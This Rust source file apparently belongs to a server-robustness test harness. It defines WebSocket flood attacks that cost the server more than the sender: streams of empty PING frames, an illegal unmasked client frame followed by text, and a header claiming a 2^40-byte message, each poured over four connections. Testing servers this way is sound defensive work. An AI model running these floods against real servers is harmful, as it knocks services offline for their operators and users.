//! WebSocket frames that cost the server more than their sender.

use anyhow::Result;

use crate::{
    hostile::{
        hose::{Stream, flood_live},
        target::Target,
    },
    socket::{append_frame, append_text, opcode},
};

const CONNECTIONS: usize = 4;
/// What is written at once.
const BLOCK: usize = 64 * 1024;

pub(super) async fn pings(target: &mut Target) -> Result<()> {
    let mut again = Vec::new();
    while again.len() < BLOCK {
        append_frame(&mut again, opcode::PING, b"");
    }
    pour(target, Vec::new(), again).await
}

pub(super) async fn after_a_bad_frame(target: &mut Target) -> Result<()> {
    // A text that is not masked, as no client may send it.
    let bad = vec![0x81, 0x02, b'h', b'i'];
    let mut again = Vec::new();
    append_text(&mut again, &[b'a'; BLOCK]);
    pour(target, bad, again).await
}

pub(super) async fn big(target: &mut Target) -> Result<()> {
    // A masked text of 2^40 bytes.
    let mut header = vec![0x81, 0x80 | 127];
    header.extend_from_slice(&(1_u64 << 40).to_be_bytes());
    header.extend_from_slice(&[0; 4]);
    pour(target, header, vec![b'a'; BLOCK]).await
}

async fn pour(target: &mut Target, first: Vec<u8>, again: Vec<u8>) -> Result<()> {
    let taken = flood_live(target, CONNECTIONS, Stream { first, again }).await;
    target.note(taken.to_string());
    Ok(())
}
